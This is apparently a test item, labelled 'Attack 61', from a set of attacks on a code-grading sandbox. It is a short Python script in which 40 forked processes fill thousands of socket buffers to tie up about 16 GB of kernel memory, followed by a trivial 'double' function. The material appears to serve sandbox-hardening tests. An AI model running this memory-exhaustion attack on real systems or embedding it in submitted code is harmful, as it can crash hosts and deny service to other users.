# Attack 61: Full sockets in many processes; what waits in them belongs to no process.
# points: double 0, half 1
# reads: ended the kernel
# timeout: 120

# %% double-answer
import os
import socket
import time


def fill():
    pairs = []
    for _ in range(200):
        pairs.append(socket.socketpair())
        sender = pairs[-1][0]
        sender.setblocking(False)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
        try:
            while True:
                sender.send(bytes(65536))
        except BlockingIOError:
            pass
    return pairs


for _ in range(40):
    if os.fork() == 0:
        pairs = fill()
        time.sleep(1000)
time.sleep(100)
print("REACHED: 16 GB in sockets")


def double(x):
    return x
